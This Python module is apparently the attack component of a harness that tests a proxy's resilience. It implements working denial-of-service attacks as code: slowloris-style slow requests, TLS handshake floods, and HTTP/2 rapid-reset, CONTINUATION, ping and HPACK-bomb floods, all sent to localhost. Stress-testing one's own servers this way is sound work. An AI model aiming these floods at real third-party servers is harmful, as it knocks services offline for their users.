"""The attacks. Each is a payload and a way to send it; all of them are answered by closing the connection or by waiting.

A `Flood` opens a connection, sends as fast as it is taken until the other side closes, and begins again. A `Hold` opens
many connections, sends a little on each, and keeps them.
"""

import contextlib
import os
import select
import socket
import ssl
import struct
import time
from dataclasses import dataclass
from typing import Callable

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 7, 8, 9
END_STREAM, END_HEADERS, PADDED = 1, 4, 8
INITIAL_WINDOW_SIZE = 4
PIECE = 64 * 1024


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def literal(name, value):
    """A field never to be put into the table, names and values in the clear."""
    return b"\x00" + bytes([len(name)]) + name + bytes([len(value)]) + value


def request(path=b"/128", method=b"\x82"):
    """A field block: GET (0x82) or POST (0x83), http, the path, a host."""
    return method + b"\x86" + b"\x04" + bytes([len(path)]) + path + b"\x01\x06a.test"


def h2(*frames):
    return PREFACE + frame(SETTINGS, 0, 0) + b"".join(frames)


def streams(make, count=4000):
    """What `make` says for each of many streams."""
    return b"".join(make(stream) for stream in range(1, 2 * count, 2))


OPEN = frame(HEADERS, END_HEADERS, 1, request(b"/1k", b"\x83"))  # a POST that never ends


def tcp(target):
    return target.port


def tls(target):
    return target.tls_port


def http2(target):
    return target.h2_port


class Sent:
    """What the attacker has sent so far, shared with the process that measures."""

    def __init__(self, octets, connections):
        self.octets, self.connections = octets, connections

    def add(self, count):
        self.octets.value += count


def connect(port, receive_buffer=None):
    connection = socket.socket()
    if receive_buffer:
        connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive_buffer)
    connection.settimeout(5)
    connection.connect(("127.0.0.1", port))
    connection.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    return connection


def give(connection, octets, sent):
    """Sends and reads what is there meanwhile; false at the end of the connection, or after 5 seconds without either."""
    at = 0
    while True:
        readable, writable, _ = select.select([connection], [connection] if at < len(octets) else [], [], 5 if at < len(octets) else 0)
        if readable and not connection.recv(1 << 18):
            return False
        if writable:
            count = connection.send(octets[at:])
            at += count
            sent.add(count)
        if not readable and not writable:
            return at == len(octets)


@dataclass(frozen=True)
class Flood:
    """`opening` once, then `payload` over and over, on one connection after the other."""

    name: str
    about: str
    port: Callable
    payload: bytes
    opening: bytes = b""
    piece: int = PIECE
    once: bool = False  # the payload is a whole connection's worth: wait for the end after it

    holds = False

    def run(self, target, sent, opened):
        opened.set()
        while True:
            with contextlib.suppress(OSError), connect(self.port(target)) as connection:
                sent.connections.value += 1
                self.attack(connection, sent)

    def attack(self, connection, sent):
        connection.setblocking(False)
        if not give(connection, self.opening, sent):
            return
        while True:
            for at in range(0, len(self.payload), self.piece):
                if not give(connection, self.payload[at:at + self.piece], sent):
                    return
            if self.once:
                while select.select([connection], [], [], 0.5)[0] and connection.recv(1 << 18):
                    pass
                return


@dataclass(frozen=True)
class Hold:
    """So many connections, `opening` on each, and a `drip` every second."""

    name: str
    about: str
    port: Callable
    opening: bytes
    drip: bytes = b""
    connections: int = 1000
    receive_buffer: int | None = None
    handshake: bool = False

    holds = True

    def run(self, target, sent, opened):
        held = []
        for _ in range(self.connections):
            connection = connect(self.port(target), self.receive_buffer)
            if self.handshake:
                connection = client_context().wrap_socket(connection, server_hostname="a.test")
                sent.add(900)  # hello and finished, about
            connection.sendall(self.opening)
            sent.add(len(self.opening))
            sent.connections.value += 1
            held.append(connection)
        opened.set()
        while True:
            time.sleep(1)
            for connection in held if self.drip else ():
                with contextlib.suppress(OSError):
                    connection.sendall(self.drip)
                    sent.add(len(self.drip))


@dataclass(frozen=True)
class Handshakes:
    """Full handshakes, one after the other, and nothing after them."""

    name: str
    about: str

    holds = False

    def run(self, target, sent, opened):
        opened.set()
        context = client_context()
        while True:
            with contextlib.suppress(OSError), connect(target.tls_port) as connection:
                incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
                session = context.wrap_bio(incoming, outgoing, server_hostname="a.test")
                while not self.step(session):
                    self.send(connection, outgoing, sent)
                    incoming.write(connection.recv(1 << 16))
                self.send(connection, outgoing, sent)
                sent.connections.value += 1

    @staticmethod
    def step(session):
        try:
            session.do_handshake()
            return True
        except ssl.SSLWantReadError:
            return False

    @staticmethod
    def send(connection, outgoing, sent):
        octets = outgoing.read()
        connection.sendall(octets)
        sent.add(len(octets))


def client_context():
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    return context


def hello():
    """A client hello as this machine's OpenSSL sends it, without its record header."""
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    with contextlib.suppress(ssl.SSLWantReadError):
        client_context().wrap_bio(incoming, outgoing, server_hostname="a.test").do_handshake()
    return outgoing.read()[5:]


def one_byte_records(message):
    return b"".join(b"\x16\x03\x01\x00\x01" + message[at:at + 1] for at in range(len(message)))


HEAD = b"GET /128 HTTP/1.1\r\nHost: a.test\r\nUser-Agent: Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36\r\nAccept: */*\r\n"
POST = b"POST /1k HTTP/1.1\r\nHost: a.test\r\n"
BOMB_NAME = b"x"
BOMB_INSERT = b"\x40\x01x\x7f" + bytes([0x80 | ((4000 - 127) & 127), (4000 - 127) >> 7]) + b"a" * 4000
RESETS = frame(RST_STREAM, 0, 0, b"\0\0\0\x08")


def reset(stream):
    return frame(HEADERS, END_STREAM | END_HEADERS, stream, request()) + frame(RST_STREAM, 0, stream, b"\0\0\0\x08")


MADE_TO_RESET = (
    lambda s: frame(WINDOW_UPDATE, 0, s, b"\0\0\0\0"),
    lambda s: frame(WINDOW_UPDATE, 0, s, b"\x7f\xff\xff\xff"),
    lambda s: frame(HEADERS, END_STREAM | END_HEADERS, s, request()),
    lambda s: frame(DATA, END_STREAM, s, b"a"),
    lambda s: frame(PRIORITY, 0, s, b"\0\0\0\0"),
    lambda s: frame(PRIORITY, 0, s, struct.pack(">IB", s, 16)),
)


def made_reset(stream):
    form = MADE_TO_RESET[stream // 2 % len(MADE_TO_RESET)]
    return frame(HEADERS, END_STREAM | END_HEADERS, stream, request(b"/1m")) + form(stream)


ATTACKS = {a.name: a for a in (
    Hold("slow-head", "heads that never end, a field a second (slowloris)", tcp, HEAD, b"X-a: b\r\n"),
    Hold("slow-body", "content that comes a byte a second", tcp, POST + b"Content-Length: 100000\r\n\r\n", b"a"),
    Hold("slow-read", "1 MiB asked for and not read", tcp, b"GET /1m HTTP/1.1\r\nHost: a.test\r\n\r\n",
         receive_buffer=2048),
    Hold("idle", "connections that say nothing after one request", tcp, HEAD + b"\r\n"),
    Hold("tls-half-hello", "half a client hello", tls, b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + b"a" * 200),
    Hold("tls-stalled", "a handshake that stops after the hello", tls, b"\x16\x03\x01" + struct.pack(">H", len(hello())) + hello(),
         connections=500),
    Hold("tls-idle", "a handshake and nothing more", tls, b"", connections=500, handshake=True),
    Hold("h2-half-block", "a field block of 16 KB without an end", http2,
         h2(frame(HEADERS, 0, 1, request() + literal(b"x", b"a" * 100) * 150)), connections=200),
    Hold("h2-zero-window", "100 answers that may not be sent", http2,
         PREFACE + frame(SETTINGS, 0, 0, struct.pack(">HI", INITIAL_WINDOW_SIZE, 0))
         + streams(lambda s: frame(HEADERS, END_STREAM | END_HEADERS, s, request(b"/64k")), 100), connections=20),
    Flood("h1-garbage", "octets that are no HTTP", tcp, os.urandom(PIECE)),
    Flood("h1-long-head", "a head without end", tcp, (b"X-a: " + b"a" * 200 + b"\r\n") * 300, HEAD),
    Flood("h1-pipeline", "requests without reading the answers first", tcp, (HEAD + b"\r\n") * 200),
    Flood("h1-chunks", "content in chunks of one byte", tcp, b"1\r\na\r\n" * 10000, POST + b"Transfer-Encoding: chunked\r\n\r\n"),
    Flood("h1-one-byte", "a head in segments of one byte", tcp, HEAD, piece=1),
    Flood("h2-rapid-reset", "requests that are reset at once", http2, streams(reset), h2(), once=True),
    Flood("h2-made-reset", "requests that the proxy is made to reset, in six forms", http2, streams(made_reset), h2(), once=True),
    Flood("h2-continuation", "a field block in empty CONTINUATION frames", http2, frame(CONTINUATION, 0, 1) * 5000,
          h2(frame(HEADERS, END_STREAM, 1, request()))),
    Flood("h2-settings", "SETTINGS", http2, frame(SETTINGS, 0, 0) * 5000, h2()),
    Flood("h2-ping", "PING", http2, frame(PING, 0, 0, b"12345678") * 5000, h2()),
    Flood("h2-priority", "PRIORITY", http2, frame(PRIORITY, 0, 1, b"\0\0\0\3\x10") * 5000, h2(OPEN)),
    Flood("h2-window", "WINDOW_UPDATE by one", http2, frame(WINDOW_UPDATE, 0, 1, b"\0\0\0\1") * 5000, h2(OPEN)),
    Flood("h2-empty-data", "DATA without data", http2, frame(DATA, 0, 1) * 5000, h2(OPEN)),
    Flood("h2-padding", "DATA of padding only", http2, frame(DATA, PADDED, 1, b"\0") * 5000, h2(OPEN)),
    Flood("h2-tiny-window", "an answer taken octet by octet", http2, frame(WINDOW_UPDATE, 0, 1, b"\0\0\0\1") * 5000,
          PREFACE + frame(SETTINGS, 0, 0, struct.pack(">HI", INITIAL_WINDOW_SIZE, 0))
          + frame(HEADERS, END_STREAM | END_HEADERS, 1, request(b"/1m"))),
    Flood("h2-hpack-bomb", "field blocks of which one octet stands for 4 KB", http2,
          streams(lambda s: frame(HEADERS, END_STREAM | END_HEADERS, s, request() + b"\xbe" * 4000), 500),
          h2(frame(HEADERS, END_STREAM | END_HEADERS, 1, request() + BOMB_INSERT)), once=True),
    Flood("tls-garbage", "records that are no hello", tls, b"\x16\x03\x01\x40\x00\x01\x00\x3f\xfc" + os.urandom(0x3ffc)),
    Flood("tls-one-byte-records", "a hello in records of one byte", tls, one_byte_records(hello()), once=True),
    Handshakes("tls-handshakes", "full handshakes"),
)}
QUICK = ["slow-head", "h2-zero-window", "h1-chunks", "h2-rapid-reset", "h2-made-reset", "h2-ping", "h2-hpack-bomb"]
